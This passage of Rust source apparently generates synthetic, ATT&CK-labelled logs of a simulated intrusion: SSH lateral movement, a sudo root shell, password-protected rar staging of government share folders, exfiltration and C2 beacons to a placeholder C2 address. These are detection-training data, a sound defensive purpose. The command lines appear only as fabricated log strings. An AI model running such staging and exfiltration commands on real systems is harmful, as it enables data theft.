            "{} {lnx} sshd[{pid}]: Accepted password for svc_deploy from {} port {port} ssh2",
            syslog_time(t),
            web.ip
        ),
        l("lateral_ssh", &["T1021.004", "T1110.001"], Correlation),
    );
    w.out.text(&auth_file(lnx), t + 10_000, format!("{} {lnx} sshd[{pid}]: pam_unix(sshd:session): session opened for user svc_deploy by (uid=0)", syslog_time(t + 10_000)), l("lateral_ssh", &["T1021.004"], Correlation));
    zeek_conn(
        w.out,
        w.rng,
        t,
        &web.ip,
        lnx_ip,
        22,
        "ssh",
        48_213,
        196_402,
        l("lateral_ssh", &["T1021.004"], Correlation),
    );
    t += 95 * SEC;
    w.out.text(&auth_file(lnx), t, format!("{} {lnx} sudo: svc_deploy : TTY=pts/0 ; PWD=/home/svc_deploy ; USER=root ; COMMAND=/bin/bash", syslog_time(t)), l("lateral_ssh", &["T1548.003"], Sigma));
    w.out.text(&auth_file(lnx), t + 5000, format!("{} {lnx} sudo: pam_unix(sudo:session): session opened for user root by svc_deploy(uid=1003)", syslog_time(t + 5000)), l("lateral_ssh", &["T1548.003"], Correlation));
}

/// Day +6: staging and exfiltration from the file server, by its implant.
fn exfiltration(w: &mut Win, world: &World, imp: Proc, a: i64) {
    let fs = &world.hosts[FS];
    let mut t = a + 6 * DAY + 14 * HOUR;
    let rar = "C:\\Windows\\Temp\\rar.exe";
    w.file(fs, t, &imp, rar, l("staging", &["T1105"], Correlation));
    t += 2 * MIN;
    let folders = [
        "Legislation\\Drafts",
        "Legislation\\Cabinet Papers",
        "Executive\\Briefings",
    ];
    for (i, f) in folders.iter().enumerate() {
        t += 3 * MIN + w.rng.below(120) as i64 * SEC;
        let args = format!(
            "{rar} a -r -m5 -hpQw3rty!2021 -v200m C:\\Windows\\Temp\\s\\d{i}.rar \"D:\\Shares\\{f}\\*.docx\" \"D:\\Shares\\{f}\\*.pdf\""
        );
        let sh = w.spawn(
            fs,
            t,
            &imp,
            CMD,
            &format!("cmd.exe /c {args}"),
            SYSTEM,
            l("staging", &["T1059.003"], Correlation),
        );
        let r = w.spawn(
            fs,
            t + 200_000,
            &sh,
            rar,
            &args,
            SYSTEM,
            l("staging", &["T1560.001"], Sigma),
        );
        w.file(
            fs,
            t + 40 * SEC,
            &r,
            &format!("C:\\Windows\\Temp\\s\\d{i}.rar"),
            l("staging", &["T1074.001"], Correlation),
        );
    }
    t += 20 * MIN;
    for i in 0..3 {
        t += 4 * MIN + w.rng.below(200) as i64 * SEC;
        w.net(
            fs,
            t,
            &imp,
            C2_IP,
            443,
            C2_DOMAIN,
            l("exfiltration", &["T1041"], Sigma),
        );
        let bytes = 150_000_000 + w.rng.below(60_000_000);
        let rb = 90_000 + w.rng.below(40_000);
        zeek_conn(
            w.out,
            w.rng,
            t,
            &fs.ip,
            C2_IP,
            443,
            "ssl",
            bytes,
            rb,
            l("exfiltration", &["T1041"], Ioc),
        );
        let _ = i;
    }
}

/// C2 beacons from both implants for the rest of the window.
fn beacons(w: &mut Win, world: &World, a: i64, end: i64) {
    let (web, fs) = (&world.hosts[WEB], &world.hosts[FS]);
    // --- C2 beacons from both implants for the rest of the window ---
    let mut bt = a + DAY + 13 * HOUR + 15 * MIN;
    while bt < end {
        for (ip, from) in [(&web.ip, a + DAY), (&fs.ip, a + 3 * DAY + 14 * HOUR)] {
            if bt >= from {
                let jitter = w.rng.below(90) as i64 * SEC;
                let (ob, rb) = (600 + w.rng.below(900), 300 + w.rng.below(700));
                zeek_conn(
                    w.out,
                    w.rng,
                    bt + jitter,
                    ip,
                    C2_IP,
                    443,
                    "ssl",
                    ob,
                    rb,
                    l("exfiltration", &["T1071.001"], Ioc),
                );
            }
        }
        bt += 30 * MIN;
    }
    let _ = ADMIN_WS;
}

/// Path of the Linux auth log.
pub(crate) fn auth_file(host: &str) -> String {
    format!("{host}/var/log/auth.log")
}

/// Zeek conn record.
#[allow(clippy::too_many_arguments)]
pub(crate) fn zeek_conn(
    out: &mut Out,
    rng: &mut Rng,
    t: i64,
    src: &str,
    dst: &str,
    port: u16,
    service: &str,
    orig: u64,
    resp: u64,
    label: Option<Label>,
) {
    out.zeek(
        "sensor01/zeek/conn.log",
        CONN,
        t,
        conn_line(rng, t, src, dst, port, service, orig, resp),
        label,
    );
}

/// Zeek DNS record for a query forwarded by the DC.
pub(crate) fn zeek_dns(
    out: &mut Out,
    rng: &mut Rng,
    t: i64,
    query: &str,
    answer: &str,
    label: Option<Label>,
) {
    let line = dns_line(rng, t, query, answer);
    out.zeek("sensor01/zeek/dns.log", DNS, t, line, label);
}

fn utf16_b64(s: &str) -> String {
    let bytes: Vec<u8> = s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    base64(&bytes)
}

fn base64(b: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut o = String::with_capacity(b.len() * 4 / 3 + 4);
    for c in b.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        o.push(A[(n >> 18) as usize & 63] as char);
        o.push(A[(n >> 12) as usize & 63] as char);
        o.push(if c.len() > 1 {
            A[(n >> 6) as usize & 63] as char
        } else {
            '='
        });
        o.push(if c.len() > 2 {
            A[n as usize & 63] as char
        } else {
            '='
        });
    }
    o
}

#[cfg(test)]
mod tests {
    #[test]
    fn base64_matches_rfc4648_vectors() {
        assert_eq!(super::base64(b"foobar"), "Zm9vYmFy");
        assert_eq!(super::base64(b"fo"), "Zm8=");
        assert_eq!(super::base64(b"f"), "Zg==");
    }
}
